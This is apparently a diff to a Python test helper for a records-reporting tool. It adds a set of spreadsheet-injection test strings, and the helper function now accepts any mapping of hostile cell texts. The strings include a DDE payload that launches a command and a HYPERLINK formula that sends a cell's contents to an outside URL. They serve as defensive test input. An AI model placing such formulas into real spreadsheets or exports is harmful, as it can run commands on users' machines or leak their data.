@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import copy
+from collections.abc import Mapping
 
 from tests.reports.sample import Plain, findings, row, run, screened
 
@@ -19,6 +20,20 @@ HOSTILE = {
     "unbroken": "W" * 239,
 }
 """What a cell may hold to mislead a reader or to break a page."""
+
+SPREADSHEET = {
+    "formula": '=HYPERLINK("https://example.com/?x="&A1,"open")',
+    "after spaces": "  =1+1",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(1;1)",
+    "tab": "\t=1+1",
+    "line end": "\r\n=cmd|' /C calc'!A0",
+    "wide": "＝1+1",
+    "address": "https://example.com/a?b=c#d",
+    "rich": "<r><rPr><b/></rPr><t>x</t></r><si/></r>",
+}
+"""What a cell may hold to make a spreadsheet compute, link or lose its way."""
 
 TEXTS = (
     "incident_id", "person_id", "agency", "district", "citation", "offense", "charge_id", "arrest_id", "officer_id",
@@ -45,21 +60,22 @@ def hostile_finding(finding: Plain, text: str) -> Plain:
     return found
 
 
-def hostile_run() -> tuple[list[Plain], Plain, Plain, list[Plain]]:
-    """A run in which every text that a record, a file name, a mapping or a pack can bring is hostile."""
+def hostile_run(texts: Mapping[str, str] = HOSTILE) -> tuple[list[Plain], Plain, Plain, list[Plain]]:
+    """A run in which every text that a record, a file name, a mapping or a pack can bring is one of these ten."""
     _, summary, coverage, packs = run()
-    found = [hostile_finding(f, text) for f, text in zip(findings(), HOSTILE.values(), strict=True)]
-    every, counted = " ".join(HOSTILE.values()), [{"value": t, "count": 1} for t in HOSTILE.values()]
-    summary["export"] |= dict.fromkeys(("mapping", "jurisdiction"), HOSTILE["attribute"]) | {"notes": [every]}
+    first, second, *_ = texts.values()
+    found = [hostile_finding(f, text) for f, text in zip(findings(), texts.values(), strict=True)]
+    every, counted = " ".join(texts.values()), [{"value": t, "count": 1} for t in texts.values()]
+    summary["export"] |= dict.fromkeys(("mapping", "jurisdiction"), second) | {"notes": [every]}
     summary["policies"][0]["title"] = every
     summary["what_if"] = ["sf-2017"]
     rule = summary["policies"][0]["rules"][0]["rule"]
     for by, key in GROUPS.items():
         summary["policies"][0][f"by_{by}"] = [
             {"rule": rule, key: text, "breach": 2, "possible": 1, "applied": 20, "kept": 18}
-            for text in (*HOSTILE.values(), None)
+            for text in (*texts.values(), None)
         ]
-    coverage["files"][0] |= {"file": every, "rejected": {HOSTILE["markup"]: 1}}
+    coverage["files"][0] |= {"file": every, "rejected": {first: 1}}
     coverage["files_not_read"] = [{"file": every, "why": every}]
     coverage["citations"]["unreadable"] = [
         {"citation": c["value"], "why": "unclear", "count": 1} for c in counted
